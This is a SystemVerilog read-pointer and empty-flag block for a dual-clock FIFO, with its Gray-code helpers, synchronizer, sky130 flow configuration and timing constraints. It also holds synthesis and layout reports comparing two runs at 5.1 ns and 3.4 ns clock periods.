<file path="src/rtl/fifo_pkg.sv">
// Shared dual-clock FIFO definitions.
// Holds the default address width and the binary/Gray pointer conversions used by both the
// read-side and write-side pointer blocks. Conversions work on 32-bit zero-extended values,
// so callers slice out the pointer width they need.
package fifo_pkg;

  localparam int unsigned ADDRSIZE_DEFAULT = 4;

  function automatic logic [31:0] bin2gray(input logic [31:0] bin);
    return (bin >> 1) ^ bin;
  endfunction

  // Each binary bit is the XOR of all Gray bits at or above it.
  function automatic logic [31:0] gray2bin(input logic [31:0] gray);
    logic [31:0] bin;
    bin[31] = gray[31];
    for (int i = 30; i >= 0; i--) begin
      bin[i] = bin[i+1] ^ gray[i];
    end
    return bin;
  endfunction

endpackage

</file>
<file path="src/rtl/sync_w2r.sv">
// Multi-bit flop-chain synchronizer that brings the write-domain Gray pointer into rclk.
// Ports:
//   rclk       - read-domain clock
//   rrst_n     - asynchronous active-low reset; clears every stage
//   wptr_i     - Gray write pointer, asynchronous to rclk
//   rq_wptr_o  - pointer after Stages flops
module sync_w2r #(
  parameter int unsigned Width  = 5,
  parameter int unsigned Stages = 2
) (
  input  logic             rclk,
  input  logic             rrst_n,
  input  logic [Width-1:0] wptr_i,
  output logic [Width-1:0] rq_wptr_o
);

  logic [Width-1:0] sync_q [Stages];

  always_ff @(posedge rclk or negedge rrst_n) begin
    if (!rrst_n) begin
      for (int i = 0; i < int'(Stages); i++) begin
        sync_q[i] <= '0;
      end
    end else begin
      sync_q[0] <= wptr_i;
      for (int i = 1; i < int'(Stages); i++) begin
        sync_q[i] <= sync_q[i-1];
      end
    end
  end

  assign rq_wptr_o = sync_q[Stages-1];

endmodule

</file>
<file path="src/rtl/rptr_empty_level.sv">
// Read-side pointer and status generator for the dual-clock FIFO.
// Ports:
//   rclk, rrst_n - read clock, asynchronous active-low reset
//   rinc         - read request, honoured only while not empty
//   wptr         - Gray write pointer from the write domain (synchronized internally)
//   clr_err      - synchronous clear of the sticky underflow flag
//   raddr        - memory read address
//   rptr         - registered Gray read pointer for the write domain
//   rempty       - registered empty flag
//   raempty      - registered almost-empty flag (level <= AEMPTY_THRESH)
//   rlevel       - registered fill level, 0..2**ADDRSIZE
//   runderflow   - sticky: a read was attempted while empty
module rptr_empty_level
  import fifo_pkg::*;
#(
  parameter int unsigned ADDRSIZE      = ADDRSIZE_DEFAULT,
  parameter int unsigned AEMPTY_THRESH = 2,
  parameter int unsigned SYNC_STAGES   = 2
) (
  input  logic                rclk,
  input  logic                rrst_n,
  input  logic                rinc,
  input  logic [ADDRSIZE:0]   wptr,
  input  logic                clr_err,
  output logic [ADDRSIZE-1:0] raddr,
  output logic [ADDRSIZE:0]   rptr,
  output logic                rempty,
  output logic                raempty,
  output logic [ADDRSIZE:0]   rlevel,
  output logic                runderflow
);

  localparam int unsigned PtrW = ADDRSIZE + 1;
  localparam logic [PtrW-1:0] AemptyThr = PtrW'(AEMPTY_THRESH);

  logic [PtrW-1:0] rq_wptr;
  logic [PtrW-1:0] rbin_q, rbin_d;
  logic [PtrW-1:0] rptr_q, rptr_d;
  logic [PtrW-1:0] rlevel_q, rlevel_d;
  logic            rempty_q, rempty_d;
  logic            raempty_q, raempty_d;
  logic            runderflow_q, runderflow_d;
  logic            rd_ok;
  logic [PtrW-1:0] wbin_s;
  logic [31:0]     gray_wide, bin_wide;
  logic            unused_wide_hi;

  sync_w2r #(
    .Width  (PtrW),
    .Stages (SYNC_STAGES)
  ) u_sync_w2r (
    .rclk      (rclk),
    .rrst_n    (rrst_n),
    .wptr_i    (wptr),
    .rq_wptr_o (rq_wptr)
  );

  assign rd_ok     = rinc & ~rempty_q;
  assign rbin_d    = rbin_q + PtrW'(rd_ok);
  assign gray_wide = bin2gray(32'(rbin_d));
  assign bin_wide  = gray2bin(32'(rq_wptr));
  assign rptr_d    = gray_wide[PtrW-1:0];
  assign wbin_s    = bin_wide[PtrW-1:0];
  // Upper bits of the widened conversions are always zero.
  assign unused_wide_hi = ^{gray_wide[31:PtrW], bin_wide[31:PtrW]};

  always_comb begin
    // Full-width compare keeps a full FIFO (MSBs differ) from looking empty.
    rempty_d     = (rptr_d == rq_wptr);
    rlevel_d     = wbin_s - rbin_d;
    raempty_d    = (rlevel_d <= AemptyThr);
    // Set has priority over clear.
    runderflow_d = (rinc & rempty_q) | (runderflow_q & ~clr_err);
  end

  always_ff @(posedge rclk or negedge rrst_n) begin
    if (!rrst_n) begin
      rbin_q       <= '0;
      rptr_q       <= '0;
      rlevel_q     <= '0;
      rempty_q     <= 1'b1;
      raempty_q    <= 1'b1;
      runderflow_q <= 1'b0;
    end else begin
      rbin_q       <= rbin_d;
      rptr_q       <= rptr_d;
      rlevel_q     <= rlevel_d;
      rempty_q     <= rempty_d;
      raempty_q    <= raempty_d;
      runderflow_q <= runderflow_d;
    end
  end

  assign raddr      = rbin_q[ADDRSIZE-1:0];
  assign rptr       = rptr_q;
  assign rempty     = rempty_q;
  assign raempty    = raempty_q;
  assign rlevel     = rlevel_q;
  assign runderflow = runderflow_q;

endmodule

</file>
<file path="config.mk">
export PLATFORM = sky130hd
export DESIGN_NAME = rptr_empty_level
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/fifo_pkg.sv /design/src/rtl/sync_w2r.sv /design/src/rtl/rptr_empty_level.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CORE_MARGIN = 5
export CORE_UTILIZATION = 35
export DETAILED_ROUTE_END_ITERATION = 10
export HOLD_SLACK_MARGIN = 0.1
export PLACE_DENSITY = 0.69
export REMOVE_ABC_BUFFERS = 1
export SLEW_MARGIN = 10
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
export TNS_END_PERCENT = 5
</file>
<file path="constraint.sdc">
create_clock -name rclk -period 5.1 [get_ports rclk]
set_input_delay 1.02 -clock rclk [delete_from_list [all_inputs] [get_ports rclk]]
set_output_delay 1.02 -clock rclk [all_outputs]
set_load 0.01 [all_outputs]
</file>
### Yosys cells after proc, flatten, opt, wreduce, memory -nomap -nowiden

Cells that the tools add are included.

| word-level totals | value |
|---|---|
| bits in registers | 28 |
| input port bits | 9 |
| output and inout bits | 17 |
| word-level logic and storage cells | 23 |

| cells by class | value |
|---|---|
| add/subtract/negate cells | 2 |
| order comparisons | 1 |
| equal/unequal tests | 1 |
| bitwise operators | 11 |

Operator list:

| cell | count |
|---|---|
| 5-bit by 1-bit adder with 5-bit output | 1 |
| 5-bit equality test | 1 |
| 5-bit by 2-bit less-or-equal comparator with 1-bit output, second input constant | 1 |
| 5-bit subtractor | 1 |
| 4-bit by 5-bit XOR with 5-bit output | 1 |
| 1-bit XOR | 4 |
| 1-bit AND | 3 |
| 1-bit NOT | 2 |
| 1-bit OR | 1 |

### Depth between registers and ports, before layout

Gate-level depths: netlist of run 1.

| logic depth | value |
|---|---|
| depth in word-level cells | 6 |
| gate-level depth with buffers | 9 |
| depth with buffers taken out | 9 |

### Hierarchy

Synthesis of run 1 repeated with hierarchy kept, for this count alone.

| unflattened totals | value |
|---|---|
| cells, all modules | 88 |
| area, all modules | 1199.9 um^2 |

By module, submodules not included:

| module | times used | cells an instance | area each (um^2) | seq. area each (um^2) |
|---|---|---|---|---|
| rptr_empty_level | 1 | 73 | 912.1 | 427.9 |
| sync_w2r | 1 | 15 | 287.8 | 250.2 |

### Worst setup path after synthesis of run 1

OpenSTA, ideal clock, no wires.

| timing path | value |
|---|---|
| path type | input-to-reg |
| start point | input port rinc |
| end point | register raempty_q (netlist: raempty) |
| setup time | 0.105 ns |
| data arrival time | 2.823 ns |
| slack | 2.172 ns |
| stages | 9 |
| cell sequence | nor2b_1 > ha_1 > nand3_1 > xor2_1 > ha_1 > a21o_1 > a31oi_1 > xnor2_1 > a2111oi_2 |

| on the way | value |
|---|---|
| cells in the longest elaborated chain, start to end | 4 |

RTL lines:

| item | RTL line | source |
|---|---|---|
| start, declared | rptr_empty_level.sv:22 | `input logic rinc,` |
| 1-bit AND | rptr_empty_level.sv:58 | `assign rd_ok = rinc & ~rempty_q;` |
| 5-bit by 1-bit adder with 5-bit output | rptr_empty_level.sv:59 | `assign rbin_d = rbin_q + PtrW'(rd_ok);` |
| 5-bit subtractor | rptr_empty_level.sv:70 | `rlevel_d = wbin_s - rbin_d;` |
| via rlevel_d[4] | rptr_empty_level.sv:39 | `logic [PtrW-1:0] rlevel_q, rlevel_d;` |
| 5-bit by 2-bit less-or-equal comparator with 1-bit output | rptr_empty_level.sv:71 | `raempty_d = (rlevel_d <= AemptyThr);` |
| via raempty_d | rptr_empty_level.sv:41 | `logic raempty_q, raempty_d;` |
| end signal, assigned | rptr_empty_level.sv:89 | `raempty_q <= raempty_d;` |
| end, declared | rptr_empty_level.sv:41 |  |

The timed path passes the listed nets, and every way through them passes these cells.

### Worst setup path in the final report of run 1

Same ends and word-level chain as after synthesis.

==> results of run 1 <==
-- power by group --
group / total [mW] / internal [mW] / switching, mW
clock network: 0.0865 / 0.0306 / 0.0559
registers: 0.343 / 0.294 / 0.0486
logic: 0.569 / 0.304 / 0.265
-- worst register-to-register path: stages, from the launching register on --
cell	delay, ns
dfrtp_1	0.42
xor3_2	0.49
xor2_1	0.33
xnor2_1	0.17
ha_1	0.17
inv_1	0.06
fa_1	0.41
a31oi_1	0.21
xnor2_1	0.12
a2111oi_2	0.34
-- registers in the layout (all words and copies together), names as in the netlist --
signal and cells:
rbin_q 5, rlevel 5, u_sync_w2r.rq_wptr_o 5, u_sync_w2r.sync_q 5, rptr 4, raempty 1, rempty 1, runderflow 1
-- placed cells by master (no fill, tap or decap), drive strengths merged --
cell type	count
a2111oi	1
a21o	2
a21oi	2
a311oi	1
a31oi	1
and3b	1
and4b	1
buf	1
clkbuf	4
clkdlybuf4s50	25
dfrtp	25
dfstp	2
fa	1
ha	6
inv	7
nand2	2
nand3	2
nand4	1
nor2b	2
o21ai	1
xnor2	15
xor2	6
xor3	2
-- cell families (layout without fill, tap and decap cells) --
family,after synthesis,in the layout,share of synthesized area (%)
flops,27,27,58.34
fa+ha+maj,7,7,8.181
buf+inv,9,37,3.552
simple gates,9,9,4.737
xor+xnor,23,23,20.02
compound gates,8,8,5.166
-- metrics by stage --
stage                     hold slack [ns]  cell area [µm²]  total power [mW]  setup slack, ns  instances
after floorplan                    0.3312             1147            0.7152            2.161         81
after global routing               0.3726             1489             1.095            1.643        157
final                              0.3628             1489            0.9986            1.829        157
after detailed placement           0.3347             1463            0.9310            1.513        153
after CTS                          0.3660             1489             1.021            1.833        157
after global placement             0.3326             1463            0.9148            1.544        153
-- worst paths after layout --
check                           cells past startpoint                           endpoint                               from  slack [ns]
worst max-delay path                               10                  raempty$_DFF_PN1_                               rinc        1.83
worst max register to register                      9                  raempty$_DFF_PN1_  u_sync_w2r.rq_wptr_o[4]$_DFF_PN0_        2.30
worst min register to register                      0  u_sync_w2r.rq_wptr_o[2]$_DFF_PN0_     u_sync_w2r.sync_q[7]$_DFF_PN0_        0.36
min in group asynchronous                           2                  rptr[2]$_DFF_PN0_                             rrst_n        1.06
worst min-delay path                                0  u_sync_w2r.rq_wptr_o[2]$_DFF_PN0_     u_sync_w2r.sync_q[7]$_DFF_PN0_        0.36
max in group asynchronous                           2                  raempty$_DFF_PN1_                             rrst_n        3.75
-- routing by layer --
metal,wire length [µm],vias to the layer above,GRT usage (%),share of wire [%]
met5,0,-,0,0
met4,62,0,7.595,3.4
met3,113,4,0.9983,6.2
met2,884,22,15.92,48
met1,770,319,11.16,42
li1,-,326,-,-
-- area by class of cell --
cell class	count	area [µm²]	area share, %
multi-input combinational	47	442.9	29.75
tap	46	57.56	3.866
inverter	7	26.28	1.765
timing repair buffer	26	257.7	17.31
sequential	27	678.2	45.55
clock buffer	4	26.28	1.765
==> impl_metrics.tcl, run 1 <==
set metrics [dict create \
    status "complete, no violations" \
    drive_gt1_share_pct 7.207 \
    dr.pass1.iters 4 \
    netlist_instances 83 \
    drc 0 \
    drv_cap 0 \
    synth-seq-cells 27 \
    grt_max_degree 28 \
    grt_pass1_wl_um 3180 \
    critPathMaxFanout 5 \
    endpoint_kind "flop" \
    synth_top_cell_area_share_pct 53.82 \
    syn_area_per_cell_um2 14.00 \
    rows 21 \
    rsz0062_at_grt "no" \
    cts_tree "built" \
    avgViaCountPerCell 4.274 \
    start_util_pct 35.39 \
    antenna_found_initial 0 \
    leakagePower_nw 0.6485 \
    core_area_um2 3284 \
    worstPathRequired_ns 5.32 \
    critPathKind "input pin to flop" \
    nNetsFinal 128 \
    slowest_stage "clkdlybuf4s50_1" \
    slew_headroom_pct 67.05 \
    area_delta_synth_final_pct 28.09 \
    cts_root_buf "clkbuf_4" \
    clkTransAtPathRegs_ns 0.13 \
    ctsHoldBuffers 0 \
    post_cts_resized 0 \
    post-cts-setup-buffer-count 0 \
    setup_viol 0 \
    yosysMostFrequentCell "dfrtp_1" \
    final.period_utilization_pct 64.13 \
    synth_area_leaders "dfrtp_1, xnor2_1, ha_1" \
    die_w_um 67.63 \
    fin_skew_ns 0.004127 \
    yosysSeqAreaShare_pct 58.34 \
    drt-initial-drc-count 28 \
    ctsHtreeMaxLevel 1 \
    cp_num_buf_inv 1 \
    clock_tree.buffer_depth 2 \
    min_period_ns 3.271 \
    syn_area_um2 1162 \
    synth_cell_types 22 \
    fillers 309 \
    postLayoutCoreUtil_pct 45.33 \
    num_vias 671 \
    wl_um 1831 \
    synth_common_cells "dfrtp_1, xnor2_1, inv_1" \
    arrival_ns 3.49 \
    p_per_area_nw_per_um2 670.7 \
    crit_chain "clkdlybuf4s50_1 -> nor2b_1 -> ha_1 -> nand3_1 -> xor2_1 -> ha_1 -> a21o_1 -> a31oi_1 -> xnor2_1 -> a2111oi_2" \
    hpwl_um 1441 \
    yosysWarningCount 0 \
    dieArea_um2 4574 \
    n_antenna_cell 0 \
    hp-class "flop to flop" \
    routedWlPerCell_um 11.66 \
    pin_count 26 \
    startpoint_type "input pin" \
    final.setup.tns_ns 0 \
    slowest_delay_ns 0.47 \
    asyncSetResetFlopFracSynth_pct 100.0 \
    place_congestion 0.8181 \
    grt_pass1_vias 703 \
    die_y_um 67.63 \
    slew_viol_final 0 \
    numCtsBuffers 3 \
    grt_use_total_pct 9.587 \
    crit_family "compound AO/OA/AOI/OAI gates" \
    synth_top_area_cell "dfrtp_1" \
    synth_edf_count 0 \
    port_buffers 25 \
    hold_viol 0 \
    ir_worst_vdd_uv 192.8 \
    tightestPinTransition_ns 0.4907 \
    crit_top_cell "ha_1" \
    overflow 0 \
    clk_latency_ns 0.31 \
    clock_sinks 27 \
    ant_nets 0 \
    synth_ff_type "dfrtp_1" \
    fmax_mhz 305.8 \
]
Note: power is estimated with default switching activity, not from simulation.
==> run 2, diff against run 1 <==
==> constraint.sdc (replaced) <==
create_clock -name rclk -period 3.4 [get_ports rclk]
set_input_delay 0.68 -clock rclk [delete_from_list [all_inputs] [get_ports rclk]]
set_output_delay 0.68 -clock rclk [all_outputs]
set_load 0.01 [all_outputs]
==> run 2 against run 1 <==
Global-route usage fell by 0.21 points. Via count rose by 1.5%. Combinational power rose by 51%. Non-clock buffer count rose by 1. Critical endpoint unchanged.
==> impl_metrics.tcl, run 2 (same netlist as run 1, synthesis figures left out) <==
set metrics [dict create \
    status "complete, no violations" \
    crit_family "compound AO/OA/AOI/OAI gates" \
    worstPathRequired_ns 3.62 \
    drive_gt1_share_pct 8.929 \
    grt_pass1_wl_um 3125 \
    reg2reg_slack_ns 0.58 \
    fillers 305 \
    final.setup.tns_ns 0 \
    min_period_ns 2.888 \
    met2_length_um 866 \
    ir_worst_vdd_uv 298.3 \
    start_util_pct 35.39 \
    ctsHtreeMaxLevel 1 \
    fin_ws_ns 0.5117 \
    port_buffers 25 \
    cts_root_buf "clkbuf_4" \
    area_delta_synth_final_pct 28.85 \
    setup_viol 0 \
    fmax_mhz 346.2 \
    core_area_um2 3284 \
    post_cts_resized 0 \
    slowest_delay_ns 0.47 \
    place_ws_ns 0.1809 \
    clkTransAtPathRegs_ns 0.13 \
    crit_top_cell "ha_1" \
    nNetsFinal 129 \
    hold_viol 0 \
    die_w_um 67.63 \
    endpoint_kind "flop" \
    critPathMaxFanout 5 \
    clock_tree.buffer_depth 2 \
    ctsHoldBuffers 0 \
    die_y_um 67.63 \
    grt_max_degree 28 \
    grt_pass1_vias 691 \
    arrival_ns 3.11 \
    fin_skew_ns 0.01165 \
    slew_viol_final 0 \
    numCtsBuffers 3 \
    tightestPinTransition_ns 0.5044 \
    wl_um 1817 \
    cts_tree "built" \
    leakagePower_nw 0.6560 \
    ant_nets 0 \
    layout_common_cells "clkdlybuf4s50_1, dfrtp_1, xnor2_1, inv_1" \
    routed-wl-met3_um 107 \
    grt_use_total_pct 9.377 \
    slowest_stage "clkdlybuf4s50_1" \
    dr.pass1.iters 4 \
    wl_met1_um 784 \
    pin_count 26 \
    critPathKind "input pin to flop" \
    avgViaCountPerCell 4.310 \
    p_per_area_nw_per_um2 1007 \
    highest_layer "met4" \
    startpoint_type "input pin" \
    rsz0062_at_grt "no" \
    cp_num_buf_inv 1 \
    clock_sinks 27 \
    place_congestion 0.8340 \
    crit_chain "clkdlybuf4s50_1 -> nor2b_1 -> ha_1 -> nand3_1 -> xor2_1 -> ha_1 -> a21o_1 -> a31oi_1 -> xnor2_1 -> a2111oi_2" \
    antenna_found_initial 0 \
    drv_cap 0 \
    hp-class "flop to flop" \
    slew_headroom_pct 66.13 \
    overflow 0 \
    post-cts-setup-buffer-count 0 \
    routedWlPerCell_um 11.50 \
    n_antenna_cell 0 \
    clk_latency_ns 0.32 \
    dieArea_um2 4574 \
    hpwl_um 1467 \
    final.period_utilization_pct 84.95 \
    drc 0 \
    num_vias 681 \
    rows 21 \
    drt-initial-drc-count 12 \
]
run 2: cell types whose count changed in the layout (fill, tap and decap cells not counted):
| cell | delta |
|---|---|
| clkbuf_1 | -1 |
| clkinv_2 | +1 |
| buf_4 | +1 |
run 2: cell type report:
cell class	count	area (µm²)	area share, %
Inverter	7	26.28	1.754
Clock buffer	3	22.52	1.504
Sequential cell	27	678.2	45.28
Multi-Input combinational cell	47	442.9	29.57
Clock inverter	1	5.005	0.3342
Tap cell	46	57.56	3.843
Timing Repair Buffer	27	265.3	17.71
run 2: per-stage QoR:
step | cells | util (%) | hold slack [ns] | total power [mW] | instance area [µm²]
3_5_place_dp | 154 | 44.76 | 0.3347 | 1.403 | 1470
2_1_floorplan | 81 | - | 0.3312 | 1.073 | 1147
3_3_place_gp | 154 | 44.76 | 0.3322 | 1.381 | 1470
6_report | 158 | 45.60 | 0.3636 | 1.509 | 1498
5_1_grt | 158 | 45.60 | 0.3785 | 1.639 | 1498
4_1_cts | 158 | 45.60 | 0.3671 | 1.537 | 1498
run 2: path summary, 6_finish.rpt:
| kind | from | endpoint | depth (start not counted) |
|---|---|---|---|
| max | rinc | raempty$_DFF_PN1_ | 10 |
| min | u_sync_w2r.sync_q[5]$_DFF_PN0_ | u_sync_w2r.rq_wptr_o[0]$_DFF_PN0_ | 0 |
| max reg2reg | u_sync_w2r.rq_wptr_o[4]$_DFF_PN0_ | raempty$_DFF_PN1_ | 9 |
| min reg2reg | u_sync_w2r.sync_q[5]$_DFF_PN0_ | u_sync_w2r.rq_wptr_o[0]$_DFF_PN0_ | 0 |
| max in group asynchronous | rrst_n | raempty$_DFF_PN1_ | 2 |
| min in group asynchronous | rrst_n | rptr[2]$_DFF_PN0_ | 2 |
run 2: report_power, final:
group          leakage (nW)  internal, mW  switching [mW]  total (mW)
registers             0.315         0.442          0.0745       0.516
logic                 0.323         0.463           0.395       0.859
clock network        0.0177        0.0441          0.0900       0.134
run 2: metal layers:
metal / global-route usage [%] / up-vias
met5: 0 / -
met4: 6.835 / 0
met3: 1.664 / 4
met2: 15.92 / 22
met1: 10.43 / 325
li1: - / 330
